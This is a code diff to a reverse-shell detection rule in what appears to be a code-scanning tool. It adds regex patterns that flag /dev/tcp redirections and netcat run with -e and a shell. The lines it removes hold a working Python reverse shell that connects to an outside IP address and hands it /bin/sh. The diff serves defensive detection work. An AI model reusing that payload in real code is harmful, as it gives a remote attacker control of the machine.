@@ -10,24 +10,20 @@ export const reverseShell: CodeSign = {
     strength: 'strong',
     benignRate: 0.5,
     docs: 'Whoever is at the other end has the machine. Debuggers and terminals use the parts, not all of them in one function.',
-    bad: {
-      files: {
-        'acme/tool.py':
-          "import os, pty, socket\ndef go():\n    s = socket.socket()\n    s.connect(('203.0.113.9', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/tool.py':
-          "import os, socket, subprocess\ndef probe(host):\n    socket.create_connection((host, 80))\ndef shell():\n    subprocess.call(['/bin/sh'])\n",
-      },
-    },
   },
-  trigger: /\bdup2\b|\bstdin\s*=/,
-  alsoTrigger: /socket/,
+  trigger: /\bdup2\b|\bstdin\s*=|\/dev\/tcp\/|\bnc(?:at)?\b.{0,40}-e/,
+  alsoTrigger: /socket|\/dev\/tcp\/|\bnc/,
   *findInCode(source) {
     const starts = source.calls.filter(({ name }) => startsProgram.test(name));
     for (const call of starts.slice(0, mostStarts)) {
+      if (source.textsOfCall(call).some(text => shellLine.test(text.slice(0, 5000)))) {
+        yield {
+          ...at(call.node),
+          message: `${call.name}() has a shell talk to a network connection`,
+          strength: 'loud',
+        };
+        continue;
+      }
       const around = source.functionAround(call.node);
       const beside = source.calls.filter(other => source.functionAround(other.node) === around);
       const connection = beside.find(({ name }) => connecting.test(name));
@@ -52,6 +48,9 @@ export const reverseShell: CodeSign = {
 /** Each is compared with all calls of the source. */
 const mostStarts = 50;
 const connecting = /^socket\.(?:create_connection|socket\(\)\.connect)$/;
+/** What shells and netcat do by themselves. */
+const shellLine =
+  /[<>]&?\s{0,9}\/dev\/(?:tcp|udp)\/|\bnc(?:at)?\b[^\n]{0,80}\s-e\s{0,9}["']?(?:\/bin\/\w*sh|cmd|powershell)/;
 const shell = /(?:^|\/)(?:ba|z|da|k)?sh(?:\s|$)|\bcmd(?:\.exe)?\b|powershell/;
 
 /** Input and output given to the program come from a socket. */
